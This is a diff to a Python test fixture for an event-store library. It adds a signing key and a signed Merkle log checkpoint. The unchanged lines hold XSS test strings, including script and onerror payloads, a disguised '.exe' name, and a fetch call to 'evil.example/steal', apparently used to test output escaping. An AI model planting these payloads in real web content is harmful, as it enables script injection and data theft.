@@ -9,13 +9,18 @@ from typing import Any
 
 import ares_events as ae
 from ares_events.agents.journal import InDoubtToolCall, Journal, ModelReply
+from ares_events.integrity.notes import SigningKey
 from ares_events.projections.erasure import erase
+from ares_events.projections.merkle import MerkleLog
 
 EVIL_ID = "<script>alert('id')</script>\u202egnp.exe\u200b-💥"
 EVIL_HTML = "<img src=x onerror=\"alert('payload')\"><b>bold?</b>"
 EVIL_PROMPT = "</pre><script>fetch('http://evil.example/steal')</script>"
 EVIL_ANSWER = "<iframe src='http://evil.example/'></iframe>\"'><svg onload=alert('answer')>"
 EVIL_RUN = "run-<b>evil</b>-\u202e"
+
+
+LOG_KEY = SigningKey.generate("console.test/log")
 
 
 class Killed(BaseException):
@@ -90,4 +95,6 @@ def build(store: ae.EventStore) -> dict[str, str]:
     ae.emit(store, "agent-2", "task.observed", "runtime", {"blob": "x" * 5000})
     ae.emit(store, "agent-2", "task.observed", "runtime", {"secret": "to be erased"})
     erase(store, "agent-2", 3, reason="a user asked", by="dpo")
+    # The verifiable log, caught up and signed: a read model and a checkpoint to show.
+    MerkleLog(store).sign(LOG_KEY)
     return {"evil_id": EVIL_ID, "evil_run": EVIL_RUN}
